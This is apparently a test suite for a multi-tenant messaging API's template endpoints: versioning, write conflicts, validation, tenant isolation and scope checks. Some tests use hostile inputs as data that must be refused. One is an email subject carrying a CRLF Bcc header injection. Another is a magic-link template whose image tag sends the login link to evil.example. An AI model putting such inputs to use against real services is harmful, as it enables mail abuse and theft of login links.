// A tenant's templates over HTTP: written as versions, read back, listed, withdrawn; what cannot be sent is refused with
// where it stands; and nobody sees another's.

import t from 'tap'
import { eventsOf, newTenant, openGateway, openHouse, type Tenant } from '../setup.ts'

const house = await openHouse(t)
const gateway = await openGateway(t, house)

const SCOPES = ['deliveries:read', 'deliveries:write']
const EMAIL = { subject: 'Order {{ number }}', html: '<p>{{ number }}</p>', text: 'Order {{ number }}' }
const SMS = { text: 'Order {{ number }}' }

async function setup() {
  const tenant = await newTenant(gateway, SCOPES)
  const put = (path: string, body: object) => tenant.call('PUT', `/v1/templates/${path}`, body)
  const read = (path: string) => tenant.call('GET', `/v1/templates/${path}`)
  return { tenant, put, read }
}

const toldOf = async ({ id }: Tenant) =>
  (await eventsOf(gateway, id))
    .filter(({ kind }) => kind === 'template.changed')
    .map(({ subject }) => subject)

t.test('a template reads back as it was written, and each version stays as it was', async (t) => {
  const { tenant, put, read } = await setup()
  const first = await put('order/de-at', { email: EMAIL, sms: SMS })
  t.equal(first.status, 200, JSON.stringify(first.body))
  t.match(first.body.data, {
    name: 'order',
    locale: 'de-AT',
    version: 1,
    built_in: false,
    email: EMAIL,
    sms: SMS,
  })
  const second = await put('order/DE-AT', { email: { subject: 'S', text: 'T' } })
  t.match(second.body.data, {
    locale: 'de-AT',
    version: 2,
    email: { subject: 'S', html: null, text: 'T' },
    sms: null,
  })
  t.same((await read('order/de-AT')).body.data, second.body.data)
  t.same((await read('order/de-AT?version=1')).body.data, first.body.data)
  t.equal((await read('order/de-AT?version=3')).status, 404)
  t.equal((await read('order/de')).status, 404, 'a read falls back to nothing')
  t.same(await toldOf(tenant), ['template:order/de-at', 'template:order/de-at'])
  const { rows } = await house.admin.query(
    `SELECT data, actor FROM outbox WHERE tenant_id = $1 AND kind = 'template.changed' ORDER BY id`,
    [tenant.id],
  )
  t.match(rows, [
    { data: { version: 1, channels: ['email', 'sms'] }, actor: /^api_key:/ },
    { data: { version: 2, channels: ['email'] } },
  ])
})

t.test('writing the same again changes nothing and tells nothing', async (t) => {
  const { tenant, put } = await setup()
  const first = await put('order/en', { email: EMAIL })
  const again = await put('order/en', { email: EMAIL, version: 1 })
  t.same(again.body.data, first.body.data)
  t.equal((await toldOf(tenant)).length, 1)
})

t.test('who names the version that he replaces does not overwrite another', async (t) => {
  const { put } = await setup()
  t.equal((await put('order/en', { sms: SMS, version: 1 })).status, 409)
  t.equal((await put('order/en', { sms: SMS, version: 0 })).status, 200)
  const late = await put('order/en', { sms: { text: 'late' }, version: 0 })
  t.equal(late.status, 409)
  t.match(late.body.error, { code: 'CONFLICT', details: [{ path: 'body.version', version: 1 }] })
  t.equal((await put('order/en', { sms: { text: 'next' }, version: 1 })).body.data.version, 2)
})

t.test('of forty who replace the same version at once one does; the rest are told', async (t) => {
  const { tenant, put, read } = await setup()
  await put('order/en', { sms: SMS })
  const many = Array.from({ length: 40 }, (_, n) => n)
  const answers = await Promise.all(
    many.map((n) => put('order/en', { sms: { text: `by ${n}` }, version: 1 })),
  )
  const statuses = answers.map(({ status }) => status)
  t.same([statuses.filter((s) => s === 200).length, statuses.filter((s) => s === 409).length], [1, 39])
  t.equal((await read('order/en')).body.data.version, 2)
  const open = await Promise.all(many.map((n) => put('order/en', { sms: { text: `and ${n}` } })))
  const versions = open.map(({ body }) => body.data.version).sort((a, b) => a - b)
  t.same(
    versions,
    many.map((n) => n + 3),
    'each of those who name none gets a version of its own',
  )
  t.equal((await toldOf(tenant)).length, 42)
})

t.test(
  'a source that cannot be read is refused with part, line and column, and nothing is kept',
  async (t) => {
    const { tenant, put, read } = await setup()
    const { status, body } = await put('order/en', {
      email: { subject: 'Hi {{ name', html: '<p>\n  {{ x | raw }}</p>', text: 'T' },
      sms: { text: 'a\n{% include "x" %}' },
    })
    t.equal(status, 400)
    t.same(body.error.details, [
      { path: 'body.email.subject', line: 1, column: 4, problem: 'this output is not closed' },
      { path: 'body.email.html', line: 2, column: 3, problem: 'there is no filter “raw” here' },
      {
        path: 'body.sms.text',
        line: 2,
        column: 1,
        problem: 'there is no tag “include” here, or it stands alone',
      },
    ])
    t.equal((await read('order/en')).status, 404)
    t.same(await toldOf(tenant), [])
  },
)

t.test('what is no template is refused', async (t) => {
  const { put, read } = await setup()
  const bodies = [
    {},
    { email: null },
    { email: { subject: 'S', html: 'H' } },
    { email: { subject: 'S', text: '' } },
    { email: { subject: 'S', text: 'T', from: 'x' } },
    { email: { subject: 'S\r\nBcc: x@y.z', text: 'T' } },
    { sms: { text: 'x'.repeat(2_001) } },
    { sms: SMS, version: -1 },
    { sms: SMS, version: '1' },
  ]
  for (const body of bodies)
    t.equal((await put('order/en', body)).status, 400, JSON.stringify(body).slice(0, 80))
  for (const path of [
    'Order/en',
    'or%20der/en',
    'order/e',
    'order/en_US',
    `${'x'.repeat(65)}/en`,
    '1st/en',
    '__proto__/en',
  ])
    for (const answer of [await put(path, { sms: SMS }), await read(path)])
      t.ok([400, 404].includes(answer.status), `${path} ${answer.status}`)
})

t.test('a page of 100 KB has room, and no more', async (t) => {
  const { put } = await setup()
  const html = '<p>日本語&nbsp;</p>'.padEnd(100_000, '日')
  t.equal((await put('order/ja', { email: { ...EMAIL, html } })).status, 200)
  t.equal((await put('order/ja', { email: { ...EMAIL, html: `${html}x` } })).status, 400)
  t.equal((await put('order/ja', { email: { ...EMAIL, html: html.repeat(3) } })).status, 413)
})

t.test(
  'an override of what Postern sends asks only for what it is given, and shows what matters',
  async (t) => {
    const { put } = await setup()
    const refused = async (path: string, body: object) => {
      const answer = await put(path, body)
      t.equal(answer.status, 400)
      return answer.body.error.details
    }
    t.match(await refused('otp/en', { sms: { text: '{{ code }}\n{{ first_name }}' } }), [
      { path: 'body.sms.text', line: 2, column: 4, problem: 'the variable “first_name” is not given here' },
    ])
    t.match(await refused('otp/en', { sms: { text: 'Hello' } }), [
      { path: 'body.sms.text', problem: 'must show {{ code }}' },
    ])
    const html = '<a href="{{ link }}">in</a>'
    t.match(await refused('magic_link/en', { email: { subject: 'S', html, text: 'see the page' } }), [
      { path: 'body.email.text', problem: 'must show {{ link }}' },
    ])
    t.match(await refused('magic_link/en', { sms: { text: '{{ link }}' } }), [{ path: 'body.sms' }])
    const leak = '<a href="{{ link }}">in</a>\n<img src="https://evil.example/?{{ link }}">'
    t.match(await refused('magic_link/en', { email: { subject: 'S', html: leak, text: '{{ link }}' } }), [
      { path: 'body.email.html', line: 2, problem: '“link” must stand in text, or begin an href' },
    ])
    const fine = {
      subject: 'S {{ tenant_name }}',
      html,
      text: '{{ link }} {{ minutes }} {{ origin_domain }}',
    }
    t.equal((await put('magic_link/en', { email: fine })).status, 200)
  },
)

t.test('what is built in reads as version 0, and can be written back as it is', async (t) => {
  const { put, read } = await setup()
  for (const name of ['magic_link', 'otp', 'notice']) {
    for (const language of ['en', 'de', 'es', 'fr', 'ja']) {
      const { data } = (await read(`${name}/${language}`)).body
      t.match(data, { name, locale: language, version: 0, built_in: true, created_at: null })
      const { email, sms } = data
      const written = await put(`${name}/${language}`, { email, sms })
      t.match(written.body.data, { version: 1, built_in: false, email, sms }, `${name} ${language}`)
    }
  }
  t.equal((await read('notice/en?version=0')).body.data.built_in, true, 'it is still there')
  t.equal((await read('notice/nl')).status, 404)
})

t.test('a withdrawn template holds no more; its versions stay and count on', async (t) => {
  const { tenant, put, read } = await setup()
  const remove = (path: string) => tenant.call('DELETE', `/v1/templates/${path}`)
  await put('notice/en', { sms: { text: '{{ title }}' } })
  for (let n = 0; n < 2; n++) {
    t.same((await remove('notice/EN')).body.data, { name: 'notice', locale: 'en', deleted: true })
  }
  t.same((await remove('never/en')).status, 200)
  t.match((await read('notice/en')).body.data, { version: 0, built_in: true })
  t.match((await read('notice/en?version=1')).body.data, { version: 1 })
  t.same((await tenant.call('GET', '/v1/templates')).body.data.items, [])
  t.equal((await put('notice/en', { sms: { text: '{{ title }}' } })).body.data.version, 3)
  t.equal((await toldOf(tenant)).length, 3)
})

t.test('the list shows the newest of each, page by page', async (t) => {
  const { tenant, put } = await setup()
  for (const path of ['b/en', 'a/fr', 'a/de-AT', 'c/en']) await put(path, { sms: SMS })
  await put('a/fr', { email: EMAIL, sms: SMS })
  const seen: string[] = []
  let cursor: string | null = null
  do {
    const query: string = cursor === null ? '' : `&cursor=${cursor}`
    const { data } = (await tenant.call('GET', `/v1/templates?limit=3${query}`)).body
    for (const { name, locale, version, channels } of data.items)
      seen.push(`${name}/${locale} ${version} ${channels}`)
    cursor = data.next_cursor
  } while (cursor !== null)
  t.same(seen, ['a/de-AT 1 sms', 'a/fr 2 email,sms', 'b/en 1 sms', 'c/en 1 sms'])
  for (const bad of ['x', 'YS9i%2Fx', 'a'.repeat(200)])
    t.equal((await tenant.call('GET', `/v1/templates?cursor=${bad}`)).status, 400, bad)
})

t.test('nobody reads, changes or lists another tenant’s templates', async (t) => {
  const { put } = await setup()
  await put('order/en', { sms: SMS })
  const other = await setup()
  t.equal((await other.read('order/en')).status, 404)
  t.same((await other.tenant.call('GET', '/v1/templates')).body.data.items, [])
  await other.tenant.call('DELETE', '/v1/templates/order/en')
  t.equal((await other.put('order/en', { sms: { text: 'mine' } })).body.data.version, 1)
})

t.test('reading asks for one scope, writing for the other', async (t) => {
  const reader = await newTenant(gateway, ['deliveries:read'])
  const writer = await newTenant(gateway, ['deliveries:write'])
  t.equal((await reader.call('PUT', '/v1/templates/order/en', { sms: SMS })).status, 403)
  t.equal((await reader.call('DELETE', '/v1/templates/order/en')).status, 403)
  t.equal((await writer.call('GET', '/v1/templates/order/en')).status, 403)
  t.equal((await writer.call('GET', '/v1/templates')).status, 403)
  t.equal((await writer.call('POST', '/v1/templates/order/en/preview', { sms: SMS })).status, 403)
})

t.test('a tenant has room for a thousand templates', async (t) => {
  const { tenant, put } = await setup()
  await house.admin.query(
    `INSERT INTO templates (tenant_id, name, locale, version, sms_text)
     SELECT $1, 't' || n, 'en', 1, 'x' FROM generate_series(1, 1000) AS n`,
    [tenant.id],
  )
  t.match((await put('order/en', { sms: SMS })).body.error, { code: 'CONFLICT' })
  t.equal((await put('t7/en', { sms: SMS })).body.data.version, 2, 'those that are there go on')
})
